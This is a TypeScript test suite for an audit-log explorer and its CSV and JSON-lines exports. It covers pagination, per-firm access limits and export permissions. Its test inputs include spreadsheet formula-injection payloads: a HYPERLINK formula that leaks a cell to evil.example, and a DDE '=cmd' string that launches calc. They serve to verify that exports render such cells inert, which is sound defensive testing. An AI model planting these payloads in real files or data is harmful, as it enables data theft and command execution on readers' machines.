import { parse } from "csv-parse/sync";
import { asc } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "../../db/client.server";
import { auditEvents, type AuditEvent } from "../../db/schema";
import { AppError } from "../../app/lib/errors";
import { EXPORT_COLUMNS, exploreAudit, exportAudit, type AuditFilters } from "../../app/modules/audit/explorer.server";
import { appendAuditEvents, type AuditEventInput } from "../../app/modules/audit/service.server";
import type { ServiceContext } from "../../app/modules/context.server";
import { decideRequest, revokeGrant } from "../../app/modules/roles/service.server";
import { createUser } from "../../app/modules/users/service.server";
import { contextFor, createConsoleUser } from "../factories";
import { createFirm, type Firm } from "../support/access";
import { auditEventsSince, lastAuditId } from "../support/audit";
import { MINUTE, TestClock } from "../support/clock";
import { describeEachDatabase } from "../support/databases";

/**
 * The audit explorer and its exports (SPEC §8), against a history written by the real services and by
 * appendAuditEvents (many events of one transaction share a time, so the id must break ties). Every filtered view
 * is checked against a plain reading of the whole table.
 */

const HOUR = 60 * MINUTE;
/** A Hong Kong wall-clock time, as a datetime-local input sends it. */
const hkLocal = (d: Date) => new Date(d.getTime() + 8 * HOUR).toISOString().slice(0, 16);
const hkDate = (d: Date) => new Date(d.getTime() + 8 * HOUR).toISOString().slice(0, 10);

/** Newest first, the id breaking ties: the explorer's order. */
const newestFirst = (a: AuditEvent, b: AuditEvent) => b.occurredAt.getTime() - a.occurredAt.getTime() || b.id - a.id;

/** What a filter should select, read off the whole table without any of the explorer's SQL. */
function matches(e: AuditEvent, f: AuditFilters): boolean {
  if (f.participantId === "platform" ? e.participantId !== null : f.participantId && e.participantId !== f.participantId) return false;
  if (f.actorUserId && e.actorUserId !== f.actorUserId) return false;
  if (f.userId && !((e.entityType === "user" && e.entityId === f.userId) || e.metadata?.userId === f.userId || e.onBehalfOfUserId === f.userId)) return false;
  if (f.action && !(f.action.endsWith("*") ? e.action.startsWith(f.action.slice(0, -1)) : e.action === f.action)) return false;
  if (f.entityType && e.entityType !== f.entityType) return false;
  if (f.entityId && e.entityId !== f.entityId) return false;
  const at = e.occurredAt.getTime();
  const instant = (v: string, endOfDay: boolean) =>
    new Date(v.length === 10 ? `${v}T${endOfDay ? "23:59:59.999" : "00:00:00"}+08:00` : `${v}+08:00`).getTime();
  if (f.from && at < instant(f.from, false)) return false;
  if (f.to && at > instant(f.to, true)) return false;
  return true;
}

async function allEvents(db: Database): Promise<AuditEvent[]> {
  return db.select().from(auditEvents).orderBy(asc(auditEvents.id));
}

/** Every page of the explorer for a filter, following the cursor as the "Older events" link does. */
async function everyPage(ctx: ServiceContext, filters: AuditFilters, limit: number): Promise<{ events: AuditEvent[]; pages: number }> {
  const events: AuditEvent[] = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const page = await exploreAudit(ctx, filters, cursor, limit);
    expect(page.events.length).toBeLessThanOrEqual(limit);
    if (page.nextCursor) expect(page.events.length).toBe(limit);
    events.push(...page.events);
    cursor = page.nextCursor;
    pages++;
  } while (cursor);
  return { events, pages };
}

async function download(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

/** The CSV cell the export should hold for a value: JSON for objects, and inert if a spreadsheet would run it. */
function expectedCell(value: unknown): string {
  if (value === null || value === undefined) return "";
  const text = typeof value === "object" ? JSON.stringify(value) : String(value);
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

const EVENT_FIELD: Record<(typeof EXPORT_COLUMNS)[number], (e: AuditEvent) => unknown> = {
  id: (e) => e.id,
  occurred_at: (e) => e.occurredAt.toISOString(),
  chain: (e) => e.chainKey,
  seq: (e) => e.seq,
  participant_id: (e) => e.participantId,
  actor_user_id: (e) => e.actorUserId,
  actor_name: (e) => e.actorName,
  actor_persona: (e) => e.actorPersona,
  on_behalf_of_user_id: (e) => e.onBehalfOfUserId,
  ticket_ref: (e) => e.ticketRef,
  action: (e) => e.action,
  entity_type: (e) => e.entityType,
  entity_id: (e) => e.entityId,
  reason: (e) => e.reason,
  changes: (e) => e.changes,
  metadata: (e) => e.metadata,
  request_id: (e) => e.requestId,
  ip: (e) => e.ip,
  user_agent: (e) => e.userAgent,
  hash: (e) => e.hash,
};

function parseCsv(text: string): Record<string, string>[] {
  // Strict RFC 4180 reading: no relaxed quotes, every record the header's length, and (as spreadsheets and most
  // CSV readers do) any line break outside quotes ends a record.
  return parse(text, {
    columns: true,
    relax_quotes: false,
    relax_column_count: false,
    skip_empty_lines: false,
    record_delimiter: ["\r\n", "\n", "\r"],
  }) as Record<string, string>[];
}

/** Cells that a spreadsheet would run as a formula, and text that CSV must quote. */
const AWKWARD_REASONS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  "+852 2840 3000",
  "-1+2",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  'Line one\nline two, with a comma and "quotes"',
  "Carriage\rreturn inside",
  "Windows\r\nline break",
  "Just\na line break",
  "Plain reason; nothing to escape",
];

describeEachDatabase("audit explorer and exports", (use) => {
  const clock = new TestClock();
  let a: Firm;
  let b: Firm;
  let compliance: ServiceContext;
  /** Users of each firm that the history is about. */
  const usersOf: Record<"a" | "b", string[]> = { a: [], b: [] };
  /** Instants at which the history moved on, for time-range filters. */
  const instants: Date[] = [];

  beforeAll(async () => {
    clock.start();
    const { db } = use();
    await createConsoleUser(db, { email: "compliance@explorer.test", displayName: "Compliance Reviewer", roleCodes: ["compliance_reviewer"] });
    compliance = await contextFor(db, "compliance@explorer.test");
    a = await createFirm(db);
    b = await createFirm(db);

    // Over several hours: users requested by makers, approved by checkers, some roles revoked again.
    for (let round = 0; round < 3; round++) {
      for (const [key, firm] of [["a", a], ["b", b]] as const) {
        clock.advance(17 * MINUTE);
        const created = await createUser(firm.maker, {
          participantId: firm.participant.id,
          email: `u${round}-${firm.participant.id.toLowerCase()}@explorer.test`,
          displayName: `Explorer user ${round} of ${firm.participant.id}`,
          roles: ["trade_info_viewer"],
        });
        usersOf[key].push(created.user.id);
        clock.advance(3 * MINUTE);
        const approved = await decideRequest(firm.checker, { requestId: created.requests[0]!, decision: "approve", comment: "=cmd|' /C calc'!A0" });
        if (round === 1) {
          clock.advance(5 * MINUTE);
          await revokeGrant(firm.checker, { grantId: approved.grantId!, reason: "@Moved to the back office" });
        }
      }
      instants.push(clock.current());
      // A burst written in one transaction: one time for all, across both firms and the platform.
      clock.advance(40 * MINUTE);
      const burst: AuditEventInput[] = [];
      for (let i = 0; i < 30; i++) {
        burst.push({
          action: i % 3 === 0 ? "audit.checkpoint.created" : i % 3 === 1 ? "review.item.kept" : "review.item.flagged",
          entityType: "widget",
          entityId: `w-${i % 3}`,
          participantId: i % 5 === 0 ? null : i % 2 === 0 ? a.participant.id : b.participant.id,
          reason: AWKWARD_REASONS[i % AWKWARD_REASONS.length],
          actorName: i === 7 ? "=Evil Actor()" : undefined,
          metadata: i % 4 === 0 ? { userId: (i % 2 === 0 ? usersOf.a : usersOf.b)[0], n: i } : { n: i },
        });
      }
      await db.transaction((tx) => appendAuditEvents(tx, { actor: a.maker.actor, requestId: `burst-${round}`, ip: "203.0.113.9", userAgent: "-explorer-test" }, burst));
      instants.push(clock.current());
    }
  });
  afterAll(() => {
    clock.stop();
  });

  describe("keyset pagination", () => {
    const filterCases: [string, () => AuditFilters][] = [
      ["no filter", () => ({})],
      ["one participant", () => ({ participantId: a.participant.id })],
      ["platform-wide events", () => ({ participantId: "platform" })],
      ["an actor", () => ({ actorUserId: b.checker.actor.userId! })],
      ["a user the events are about", () => ({ userId: usersOf.a[0]! })],
      ["an exact action", () => ({ action: "audit.checkpoint.created" })],
      ["an action prefix", () => ({ action: "review.item.*" })],
      ["an action prefix and a participant", () => ({ action: "role.grant.*", participantId: b.participant.id })],
      ["an entity", () => ({ entityType: "widget", entityId: "w-2" })],
      ["a time range in Hong Kong time", () => ({ from: hkLocal(instants[1]!), to: hkLocal(instants[3]!) })],
      ["a Hong Kong day", () => ({ from: hkDate(instants[2]!), to: hkDate(instants[2]!) })],
    ];

    it.each(filterCases)("returns every event exactly once, newest first, with %s", async (_name, filtersOf) => {
      const filters = filtersOf();
      const expected = (await allEvents(use().db)).filter((e) => matches(e, filters)).sort(newestFirst);
      expect(expected.length).toBeGreaterThan(0);
      for (const limit of [7, 50]) {
        const { events, pages } = await everyPage(compliance, filters, limit);
        expect(new Set(events.map((e) => e.id)).size, "no event twice").toBe(events.length);
        expect(events.map((e) => e.id)).toEqual(expected.map((e) => e.id));
        expect(pages).toBe(Math.max(1, Math.ceil(expected.length / limit)));
      }
    });

    it("exports every event about a user exactly once, newest first, in batches smaller than the result", async () => {
      const filters = { userId: usersOf.a[0]! };
      const expected = (await allEvents(use().db)).filter((e) => matches(e, filters)).sort(newestFirst);
      expect(expected.length).toBeGreaterThan(7);
      const csv = parseCsv(await download(await exportAudit(compliance, filters, "csv", 7)));
      expect(csv.map((r) => Number(r.id))).toEqual(expected.map((e) => e.id));
    });

    it("breaks ties on the id: a page boundary inside a burst of events with the same time loses nothing", async () => {
      const filters = { entityType: "widget" };
      const burstTimes = new Set((await allEvents(use().db)).filter((e) => e.entityType === "widget").map((e) => e.occurredAt.getTime()));
      expect(burstTimes.size).toBe(3);
      const { events } = await everyPage(compliance, filters, 4);
      expect(events).toHaveLength(90);
      expect(events.map((e) => e.id)).toEqual([...events].sort(newestFirst).map((e) => e.id));
    });

    it("does not shift when new events arrive while someone is paging back", async () => {
      const { db } = use();
      const filters = { participantId: a.participant.id };
      const expected = (await allEvents(db)).filter((e) => matches(e, filters)).sort(newestFirst);
      const first = await exploreAudit(compliance, filters, null, 10);
      clock.advance(MINUTE);
      await db.transaction((tx) =>
        appendAuditEvents(tx, { actor: a.maker.actor, requestId: "late", ip: null, userAgent: null }, Array.from({ length: 12 }, (_, i) => ({ action: "credential.key.expiry_notice", entityType: "gadget", entityId: `late-${i}`, participantId: a.participant.id }))),
      );
      const seen = [...first.events];
      let cursor = first.nextCursor;
      while (cursor) {
        const page = await exploreAudit(compliance, filters, cursor, 10);
        seen.push(...page.events);
        cursor = page.nextCursor;
      }
      expect(seen.map((e) => e.id)).toEqual(expected.map((e) => e.id));
      // The newest page now starts with what arrived meanwhile.
      expect((await exploreAudit(compliance, filters, null, 12)).events.map((e) => e.action)).toEqual(Array(12).fill("credential.key.expiry_notice"));
    });

    it("serves at most 200 events a page however many are asked for", async () => {
      const { db } = use();
      await db.transaction((tx) =>
        appendAuditEvents(tx, { actor: b.maker.actor, requestId: "filler", ip: null, userAgent: null }, Array.from({ length: 150 }, (_, i) => ({ action: "credential.key.rotated", entityType: "gadget", entityId: `filler-${i}`, participantId: b.participant.id }))),
      );
      expect((await allEvents(db)).length).toBeGreaterThan(200);
      const page = await exploreAudit(compliance, {}, null, 10_000);
      expect(page.events).toHaveLength(200);
      expect(page.nextCursor).not.toBeNull();
    });
  });

  describe("a participant administrator", () => {
    it("sees only their own participant's events, whatever they filter on", async () => {
      const own = (await allEvents(use().db)).filter((e) => e.participantId === a.participant.id).sort(newestFirst);
      for (const da of [a.maker, a.checker]) {
        const { events } = await everyPage(da, {}, 25);
        expect(events.map((e) => e.id)).toEqual(own.map((e) => e.id));
        const attempts: AuditFilters[] = [
          { participantId: b.participant.id },
          { participantId: "platform" },
          { actorUserId: b.maker.actor.userId! },
          { userId: usersOf.b[0]! },
          { action: "role.grant.*", participantId: b.participant.id },
        ];
        for (const filters of attempts) {
          const page = await exploreAudit(da, filters, null, 200);
          expect(page.events, JSON.stringify(filters)).toEqual([]);
        }
        // An entity both firms' events name: only their own participant's events of it.
        const widget = await everyPage(da, { entityType: "widget", entityId: "w-0" }, 200);
        expect(widget.events.length).toBeGreaterThan(0);
        for (const e of widget.events) expect(e.participantId).toBe(a.participant.id);
      }
    });

    it("exports only their own participant's events, even when the filter names another", async () => {
      const { db } = use();
      const mark = await lastAuditId(db);
      const csv = parseCsv(await download(await exportAudit(a.checker, {}, "csv")));
      const own = (await allEvents(db)).filter((e) => e.participantId === a.participant.id);
      expect(csv.length).toBe(own.length);
      expect(new Set(csv.map((r) => r.participant_id))).toEqual(new Set([a.participant.id]));
      expect(new Set(csv.map((r) => r.chain))).toEqual(new Set([a.participant.id]));

      const asked = await download(await exportAudit(a.maker, { participantId: b.participant.id }, "jsonl"));
      expect(asked).toBe("");
      const platform = parseCsv(await download(await exportAudit(a.maker, { participantId: "platform" }, "csv")));
      expect(platform).toEqual([]);

      // Their exports are recorded on their own participant's chain.
      const exports = (await auditEventsSince(db, mark)).filter((e) => e.action === "audit.exported");
      expect(exports).toHaveLength(3);
      for (const e of exports) expect(e.participantId).toBe(a.participant.id);
    });
  });

  describe("exports", () => {
    it("CSV parses back with a standard parser to the explorer's filtered view, cell for cell", async () => {
      const filters: AuditFilters = { participantId: b.participant.id };
      const { events } = await everyPage(compliance, filters, 50);
      const text = await download(await exportAudit(compliance, filters, "csv", 7));
      expect(text.split("\r\n")[0]).toBe(EXPORT_COLUMNS.join(","));
      const rows = parseCsv(text);
      expect(rows).toHaveLength(events.length);
      rows.forEach((row, i) => {
        const event = events[i]!;
        expect(Object.keys(row)).toEqual([...EXPORT_COLUMNS]);
        for (const column of EXPORT_COLUMNS) {
          if (column === "changes" || column === "metadata") {
            const value = EVENT_FIELD[column](event);
            expect(row[column] === "" ? null : JSON.parse(row[column]!), `${column} of event ${event.id}`).toEqual(value);
          } else {
            expect(row[column], `${column} of event ${event.id}`).toBe(expectedCell(EVENT_FIELD[column](event)));
          }
        }
      });
    });

    it("makes every cell a spreadsheet would run inert, and keeps line breaks, commas and quotes inside their cell", async () => {
      const filters: AuditFilters = { entityType: "widget" };
      const { events } = await everyPage(compliance, filters, 200);
      const rows = parseCsv(await download(await exportAudit(compliance, filters, "csv")));
      expect(rows).toHaveLength(events.length);
      const byId = new Map(rows.map((r) => [Number(r.id), r]));
      for (const reason of AWKWARD_REASONS) {
        const withIt = events.filter((e) => e.reason === reason);
        expect(withIt.length, JSON.stringify(reason)).toBeGreaterThan(0);
        for (const e of withIt) {
          const cell = byId.get(e.id)!.reason!;
          if (/^[=+\-@\t\r]/.test(reason)) expect(cell, JSON.stringify(reason)).toBe(`'${reason}`);
          else expect(cell, JSON.stringify(reason)).toBe(reason);
        }
      }
      const evilActor = rows.filter((r) => r.actor_name!.includes("Evil Actor"));
      expect(evilActor.map((r) => r.actor_name)).toEqual(Array(3).fill("'=Evil Actor()"));
      // The user agent "-explorer-test" starts with a minus: inert too.
      expect(new Set(rows.map((r) => r.user_agent))).toEqual(new Set(["'-explorer-test"]));
      // No cell of the whole export starts with a formula character.
      for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(/^[=+\-@\t\r]/.test(cell), `${column}: ${cell}`).toBe(false);
    });

    it("JSON lines parse back, one event a line, with the values exactly as recorded", async () => {
      const filters: AuditFilters = { entityType: "widget" };
      const { events } = await everyPage(compliance, filters, 200);
      const text = await download(await exportAudit(compliance, filters, "jsonl", 11));
      expect(text.endsWith("\n")).toBe(true);
      const lines = text.split("\n").slice(0, -1).map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(lines).toHaveLength(events.length);
      lines.forEach((line, i) => {
        const event = events[i]!;
        expect(Object.keys(line)).toEqual([...EXPORT_COLUMNS]);
        for (const column of EXPORT_COLUMNS) expect(line[column], `${column} of event ${event.id}`).toEqual(EVENT_FIELD[column](event) ?? null);
      });
      // JSON is not a spreadsheet: the formula-looking text stays as written.
      expect(lines.map((l) => l.reason)).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Click me")');
    });

    it("is itself an audit event, recorded before the first byte, naming the format and the filters", async () => {
      const { db } = use();
      const mark = await lastAuditId(db);
      const filters: AuditFilters = { participantId: a.participant.id, action: "role.grant.*" };
      const stream = await exportAudit(compliance, filters, "jsonl");
      const [recorded] = await auditEventsSince(db, mark);
      expect(recorded).toMatchObject({
        action: "audit.exported",
        actorUserId: compliance.actor.userId,
        actorPersona: "compliance",
        participantId: null,
        chainKey: "platform",
        metadata: { format: "jsonl", filters },
      });
      await download(stream);
      await download(await exportAudit(compliance, {}, "csv"));
      const all = await auditEventsSince(db, mark);
      expect(all.map((e) => e.action)).toEqual(["audit.exported", "audit.exported"]);
      expect(all[1]!.metadata).toEqual({ format: "csv", filters: {} });
    });

    it("encodes a batch only when the client has room for it, and stops reading when the client has gone", async () => {
      const filters: AuditFilters = { participantId: b.participant.id };
      const { events } = await everyPage(compliance, filters, 50);
      expect(events.length).toBeGreaterThan(6);
      // A client that takes two batches, then is too slow, then leaves.
      const asked: ((open: boolean) => void)[] = [];
      let calls = 0;
      const room = () => (++calls <= 2 ? Promise.resolve(true) : new Promise<boolean>((resolve) => asked.push(resolve)));
      const reader = (await exportAudit(compliance, filters, "csv", 3, undefined, room)).getReader();
      const decoder = new TextDecoder();
      let text = "";
      for (let i = 0; i < 3; i++) text += decoder.decode((await reader.read()).value); // the header and two batches
      let next: ReadableStreamReadResult<Uint8Array> | null = null;
      const reading = reader.read().then((r) => (next = r));
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(next).toBeNull(); // no room: the third batch waits
      expect(asked).toHaveLength(1);
      asked[0]!(false); // the client has gone
      await reading;
      expect(next!.done).toBe(true);
      expect(parseCsv(text).map((r) => Number(r.id))).toEqual(events.slice(0, 6).map((e) => e.id));
    });

    it("contains its own audit event when the filter covers it", async () => {
      const rows = parseCsv(await download(await exportAudit(compliance, { action: "audit.exported", participantId: "platform" }, "csv")));
      expect(rows.length).toBeGreaterThan(0);
      expect(rows[0]).toMatchObject({ action: "audit.exported", actor_user_id: compliance.actor.userId });
      expect(JSON.parse(rows[0]!.metadata!)).toEqual({ format: "csv", filters: { participantId: "platform", action: "audit.exported" } });
    });

    it("is refused to someone without the export permission, and then nothing is recorded", async () => {
      const { db } = use();
      await createConsoleUser(db, { email: "helpdesk@explorer.test", roleCodes: ["helpdesk"] });
      const helpdesk = await contextFor(db, "helpdesk@explorer.test");
      const mark = await lastAuditId(db);
      const refused = await exportAudit(helpdesk, {}, "csv").then(
        () => null,
        (e: unknown) => e,
      );
      expect(refused).toBeInstanceOf(AppError);
      expect((refused as AppError).status).toBe(403);
      await expect(exploreAudit(helpdesk, {}, null)).rejects.toMatchObject({ status: 403 });
      expect(await auditEventsSince(db, mark)).toEqual([]);
    });
  });
});
